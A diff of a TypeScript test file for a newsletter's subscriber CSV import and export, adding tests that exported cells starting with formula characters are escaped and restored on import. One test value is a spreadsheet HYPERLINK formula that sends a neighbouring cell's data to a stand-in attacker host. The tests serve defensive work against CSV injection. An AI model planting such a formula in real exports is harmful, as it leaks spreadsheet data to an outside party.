@@ -1,11 +1,20 @@
 /**
  * Subscriber CSV import and export against a real SQLite store. Real: csv-parse, csv-stringify,
- * the store. Faked: nothing; the counting store subclass only observes the batches it is given.
+ * the store and the importer. Faked: nothing; the counting importer subclass only observes the
+ * batches it is given.
  */
 import { Readable, Writable } from 'node:stream';
+import fc from 'fast-check';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import type { Subscriber, SubscriptionInput } from '../../../../src/domain/subscriber.js';
-import { CsvHeaderError, exportSubscribersCsv, importSubscribersCsv } from '../../../../src/channels/newsletter/csv.js';
+import {
+  CsvHeaderError,
+  escapeFormula,
+  exportSubscribersCsv,
+  importSubscribersCsv,
+  unescapeFormula,
+} from '../../../../src/channels/newsletter/csv.js';
+import { SubscriberImporter, type ImportOptions } from '../../../../src/channels/newsletter/subscriber-import.js';
 import type { Database } from '../../../../src/store/database.js';
 import { SubscriberStore } from '../../../../src/store/subscribers.js';
 import { databaseTargets } from '../../../helpers/database.js';
@@ -30,10 +39,10 @@ class CollectingWritable extends Writable {
   }
 }
 
-/** Records the size of every batch it is given; otherwise the real store. */
-class BatchRecordingStore extends SubscriberStore {
+/** Records the size of every batch it is given; otherwise the real importer. */
+class BatchRecordingImporter extends SubscriberImporter {
   batches: number[] = [];
-  override importMany(rows: readonly SubscriptionInput[], options: { confirmed: boolean; now: Date }) {
+  override importMany(rows: readonly SubscriptionInput[], options: ImportOptions) {
     this.batches.push(rows.length);
     return super.importMany(rows, options);
   }
@@ -41,11 +50,13 @@ class BatchRecordingStore extends SubscriberStore {
 
 describe('subscriber CSV', () => {
   let database: Database;
-  let store: BatchRecordingStore;
+  let store: SubscriberStore;
+  let importer: BatchRecordingImporter;
 
   beforeEach(async () => {
     database = await sqlite!.open();
-    store = new BatchRecordingStore(database);
+    store = new SubscriberStore(database);
+    importer = new BatchRecordingImporter(database);
   });
 
   afterEach(async () => {
@@ -53,7 +64,7 @@ describe('subscriber CSV', () => {
   });
 
   const importCsv = (text: string, confirmed = true, extra: { onPending?: (s: Subscriber[]) => Promise<void>; batchSize?: number } = {}) =>
-    importSubscribersCsv(csv(text), { store, confirmed, now: () => T0, ...extra });
+    importSubscribersCsv(csv(text), { importer, confirmed, now: () => T0, ...extra });
 
   it('imports every column, with categories separated by ;', async () => {
     const result = await importCsv(
@@ -211,7 +222,7 @@ describe('subscriber CSV', () => {
     const other = await sqlite!.open();
     try {
       const copy = new SubscriberStore(other);
-      await importSubscribersCsv(csv(output.text), { store: copy, confirmed: true, now: () => T0 });
+      await importSubscribersCsv(csv(output.text), { importer: new SubscriberImporter(other), confirmed: true, now: () => T0 });
       const preferences = (s: Subscriber | null) => s && { email: s.email, frequency: s.frequency, categories: s.categories, name: s.name };
       for (const email of ['ann@example.org', 'bob@example.org', 'cat@example.org']) {
         expect(preferences(await copy.getByEmail(email))).toEqual(preferences(await store.getByEmail(email)));
@@ -219,6 +230,88 @@ describe('subscriber CSV', () => {
     } finally {
       await other.close();
     }
+  });
+
+  it('escapes cells a spreadsheet would run as formulas, and imports them back as they were', async () => {
+    const names = [
+      '=HYPERLINK("https://evil.example/?leak="&A2,"Click")',
+      '+1 555 0100',
+      '-Ann-',
+      '@SUM(A1:A9)',
+      "'=already quoted",
+      "'Connor",
+    ];
+    const person = (email: string, name: string | null = null) => ({ email, frequency: 'immediate' as const, categories: [], name });
+    await importer.importMany(
+      [
+        ...names.map((name, i) => person(`reader${i}@example.org`, name)),
+        ...['=eve@example.org', '-dan@example.org', "'=fay@example.org"].map((email) => person(email)),
+      ],
+      { confirmed: true, now: T0 },
+    );
+    const output = new CollectingWritable();
+
+    expect(await exportSubscribersCsv(store, output)).toBe(names.length + 3);
+
+    const cells = output.text
+      .trimEnd()
+      .split('\n')
+      .slice(1)
+      .map((line) => line.replace(/^"/, ''));
+    expect(cells.filter((line) => /^[=+\-@\t\r]/.test(line))).toEqual([]);
+    expect(output.text).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A2,""Click"")"`);
+    expect(output.text).toContain(`'+1 555 0100`);
+    expect(output.text).toContain(`'-Ann-`);
+    expect(output.text).toContain(`'@SUM(A1:A9)`);
+    expect(output.text).toContain(`''=already quoted`);
+    expect(output.text).toContain(`,'Connor,`);
+    expect(output.text).toContain(`'=eve@example.org,`);
+    expect(output.text).toContain(`''=fay@example.org,`);
+
+    const other = await sqlite!.open();
+    try {
+      const copy = new SubscriberStore(other);
+      const result = await importSubscribersCsv(csv(output.text), {
+        importer: new SubscriberImporter(other),
+        confirmed: true,
+        now: () => T0,
+      });
+      expect(result).toMatchObject({ created: names.length + 3, bad: [] });
+      const people = async (target: SubscriberStore) =>
+        (await Promise.all([...names.keys()].map((i) => target.getByEmail(`reader${i}@example.org`)))).map((s) => s?.name);
+      expect(await people(copy)).toEqual(await people(store));
+      expect(await people(copy)).toEqual(names);
+      for (const email of ['=eve@example.org', '-dan@example.org', "'=fay@example.org"])
+        expect(await copy.getByEmail(email)).not.toBeNull();
+    } finally {
+      await other.close();
+    }
+  });
+
+  it("drops a leading ' on import only before a formula character", async () => {
+    const result = await importCsv(`email,name\na@example.org,'=1+1\nb@example.org,'Connor\nc@example.org,''+x\nd@example.org,'\n`);
+    expect(result).toMatchObject({ created: 4, bad: [] });
+    const nameOf = async (email: string) => (await store.getByEmail(email))?.name;
+    expect([
+      await nameOf('a@example.org'),
+      await nameOf('b@example.org'),
+      await nameOf('c@example.org'),
+      await nameOf('d@example.org'),
+    ]).toEqual(['=1+1', "'Connor", "'+x", "'"]);
+  });
+
+  it('escapes every formula start, tab and carriage return included, and undoes exactly its own escape', () => {
+    for (const cell of ['=1', '+1', '-1', '@x', '\tx', '\rx', "'=1", "''\t"]) {
+      expect(escapeFormula(cell)).toBe(`'${cell}`);
+      expect(unescapeFormula(escapeFormula(cell))).toBe(cell);
+    }
+    for (const cell of ['', 'ann', "'", "'x", '1=1', ' =1', 'a@b']) expect(escapeFormula(cell)).toBe(cell);
+    fc.assert(
+      fc.property(fc.string({ unit: fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', 'a', ' ') }), (cell) => {
+        expect(unescapeFormula(escapeFormula(cell))).toBe(cell);
+        expect(escapeFormula(cell)).not.toMatch(/^[=+\-@\t\r]/);
+      }),
+    );
   });
 
   it('streams a 20,000-row file in batches of 1000', async () => {
@@ -230,14 +323,14 @@ describe('subscriber CSV', () => {
     const progress: Array<{ rows: number; bytes: number }> = [];
 
     const result = await importSubscribersCsv(Readable.from(lines()), {
-      store,
+      importer,
       confirmed: true,
       now: () => T0,
       onProgress: (p) => progress.push(p),
     });
 
     expect(result).toEqual({ rows: rowCount, created: rowCount, updated: 0, unchanged: 0, bad: [] });
-    expect(store.batches).toEqual(Array.from({ length: 20 }, () => 1000));
+    expect(importer.batches).toEqual(Array.from({ length: 20 }, () => 1000));
     expect(progress).toHaveLength(rowCount);
     expect(progress.at(-1)?.rows).toBe(rowCount);
     expect(progress.at(-1)?.bytes).toBeGreaterThan(rowCount * 40);
